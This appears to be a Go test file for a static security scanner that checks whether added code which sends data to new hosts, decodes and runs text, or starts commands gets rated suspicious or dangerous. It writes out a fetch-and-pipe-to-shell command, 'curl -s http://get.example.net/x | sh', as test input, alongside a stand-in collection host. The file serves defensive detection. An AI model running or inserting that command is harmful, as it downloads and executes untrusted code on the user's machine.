package static_test

import (
	"embed"
	"maps"
	"path"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"go.yaml.in/yaml/v3"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/tools/testenv"
)

//go:embed testdata/ways/*.yaml
var waysFiles embed.FS

// ways are the ways of one language to do what programs do with data: each is a
// whole text, by a name for people.
type ways struct {
	Language gate.Language     `yaml:"language"`
	Path     string            `yaml:"path"`
	Data     map[string]string `yaml:"data"`     // what comes before a way to send, by what is sent
	Text     map[string]string `yaml:"text"`     // what comes before a way to evaluate, by where the text comes from
	Send     map[string]string `yaml:"send"`     // HOST is the host that gets the data
	Loud     []string          `yaml:"loud"`     // ways to send that are findings for any host
	Indirect []string          `yaml:"indirect"` // ways that take a secret along in something else
	Decode   map[string]string `yaml:"decode"`   // decodes a text, and runs it
	Evaluate map[string]string `yaml:"evaluate"` // runs the variable text as code
	Literal  string            `yaml:"literal"`  // makes the variable text a constant that runs COMMAND
	Shells   []string          `yaml:"shells"`   // ways to evaluate that run commands of a shell only
	Load     map[string]string `yaml:"load"`     // stores the variable text, and loads what it stored
	Start    map[string]string `yaml:"start"`    // runs COMMAND as a command line
	Harmful  map[string]string `yaml:"harmful"`  // does harm in a way of its own
	Harmless map[string]string `yaml:"harmless"` // looks like the others, and is not
}

// Hosts of the ways to send.
const (
	newHost   = "collect.example.net"
	namedHost = "api.example.com"
)

func readWays(t *testing.T) []ways {
	t.Helper()
	files, err := waysFiles.ReadDir("testdata/ways")
	if err != nil {
		t.Fatal(err)
	}
	var out []ways
	for _, f := range files {
		text, err := waysFiles.ReadFile("testdata/ways/" + f.Name())
		if err != nil {
			t.Fatal(err)
		}
		decoder := yaml.NewDecoder(strings.NewReader(string(text)))
		decoder.KnownFields(true)
		for {
			var w ways
			if err := decoder.Decode(&w); err != nil {
				if err.Error() != "EOF" {
					t.Fatalf("%s: %v", f.Name(), err)
				}
				break
			}
			out = append(out, w)
		}
	}
	return out
}

// scan returns the worst severity in a text that a change adds to a base that names
// one host, and the rules behind it.
func (w ways) scan(t *testing.T, text string) (gate.Severity, []string) {
	t.Helper()
	target := &gate.Target{Path: w.Path, Language: w.Language, Role: gate.RoleSource, Kind: gate.ChangeAdded, Size: int64(len(text)), Mode: 0o644}
	change := &gate.Change{
		Head:    fstest.MapFS{w.Path: {Data: []byte(text)}},
		Base:    fstest.MapFS{"README.md": {Data: []byte("Statistics go to https://" + namedHost + "/in\n")}},
		Targets: []*gate.Target{target},
	}
	found := gate.NewFindings(change.Targets, nil)
	if _, err := newScanner(t, nil).Run(t.Context(), change, found); err != nil {
		t.Fatal(err)
	}
	worst := gate.SeverityNote
	var rules []string
	for _, f := range found.Of(w.Path) {
		worst = max(worst, f.Severity)
		if f.Severity > gate.SeverityNote {
			rules = append(rules, f.Rule+"="+f.Severity.String())
		}
	}
	return worst, rules
}

// each runs a test for every member of a table, in order.
func (w ways) each(t *testing.T, table map[string]string, do func(t *testing.T, name, text string)) {
	t.Helper()
	for _, name := range slices.Sorted(maps.Keys(table)) {
		t.Run(path.Base(w.Path)+"/"+name, func(t *testing.T) { do(t, name, table[name]) })
	}
}

// atLeast checks the worst finding of a text.
func (w ways) atLeast(t *testing.T, want gate.Severity, text string) {
	t.Helper()
	if got, rules := w.scan(t, text); got < want {
		t.Errorf("%v, want %v; found %v in\n%s", got, want, rules, text)
	}
}

// quiet checks that nothing worse than a note is found.
func (w ways) quiet(t *testing.T, text string) {
	t.Helper()
	if got, rules := w.scan(t, text); got > gate.SeverityNote {
		t.Errorf("%v by %v, want a note at most in\n%s", got, rules, text)
	}
}

func TestDataThatGoesToANewHostIsSeenInEveryWayToSendIt(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for _, w := range readWays(t) {
		w.each(t, w.Send, func(t *testing.T, _, text string) {
			w.atLeast(t, gate.SeveritySuspicious, w.Data["plain"]+strings.ReplaceAll(text, "HOST", newHost))
		})
	}
}

func TestASecretThatIsSentIsDangerousInEveryWayToSendIt(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for _, w := range readWays(t) {
		for _, kind := range slices.Sorted(maps.Keys(w.Data)) {
			if kind == "plain" {
				continue
			}
			w.each(t, w.Send, func(t *testing.T, name, text string) {
				want := gate.SeverityDangerous
				if slices.Contains(w.Indirect, name) {
					want = gate.SeveritySuspicious
				}
				w.atLeast(t, want, w.Data[kind]+strings.ReplaceAll(text, "HOST", newHost))
			})
		}
	}
}

func TestDataForAHostThatTheBaseNamesIsNoFinding(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for _, w := range readWays(t) {
		for _, host := range []string{namedHost, "localhost"} {
			quiet := maps.Clone(w.Send)
			maps.DeleteFunc(quiet, func(name, _ string) bool { return slices.Contains(w.Loud, name) })
			w.each(t, quiet, func(t *testing.T, _, text string) {
				w.quiet(t, w.Data["plain"]+strings.ReplaceAll(text, "HOST", host))
			})
		}
	}
}

func TestTextThatIsDecodedAndRunIsDangerousWhateverDecodesIt(t *testing.T) {
	for _, w := range readWays(t) {
		w.each(t, w.Decode, func(t *testing.T, _, text string) { w.atLeast(t, gate.SeverityDangerous, text) })
	}
}

func TestTextFromOutsideIsDangerousWhateverRunsIt(t *testing.T) {
	for _, w := range readWays(t) {
		for _, kind := range slices.Sorted(maps.Keys(w.Text)) {
			w.each(t, w.Evaluate, func(t *testing.T, _, text string) {
				w.atLeast(t, gate.SeverityDangerous, w.Text[kind]+text)
			})
			w.each(t, w.Load, func(t *testing.T, _, text string) {
				w.atLeast(t, gate.SeveritySuspicious, w.Text[kind]+text)
			})
		}
	}
}

func TestAConstantIsReadAsCodeWhateverRunsIt(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for _, w := range readWays(t) {
		if w.Literal == "" {
			continue
		}
		code := maps.Clone(w.Evaluate)
		maps.DeleteFunc(code, func(name, _ string) bool { return slices.Contains(w.Shells, name) })
		w.each(t, code, func(t *testing.T, _, text string) {
			w.atLeast(t, gate.SeverityDangerous, strings.ReplaceAll(w.Literal, "COMMAND", "curl -s http://get.example.net/x | sh")+text)
		})
	}
}

func TestACommandIsReadWhateverStartsIt(t *testing.T) {
	testenv.WithoutRace(t, "one file at a time through the whole layer")
	for _, w := range readWays(t) {
		w.each(t, w.Start, func(t *testing.T, _, text string) {
			w.atLeast(t, gate.SeverityDangerous, strings.ReplaceAll(text, "COMMAND", "curl -s http://get.example.net/x | sh"))
			if got, rules := w.scan(t, strings.ReplaceAll(text, "COMMAND", "ls -la")); got >= gate.SeverityDangerous {
				t.Errorf("%v for ls by %v", got, rules)
			}
		})
	}
}

func TestUnusualWaysToDoHarmAreDangerous(t *testing.T) {
	for _, w := range readWays(t) {
		w.each(t, w.Harmful, func(t *testing.T, _, text string) { w.atLeast(t, gate.SeverityDangerous, text) })
	}
}

func TestHarmlessLookalikesHaveNoFinding(t *testing.T) {
	for _, w := range readWays(t) {
		w.each(t, w.Harmless, func(t *testing.T, _, text string) { w.quiet(t, text) })
	}
}
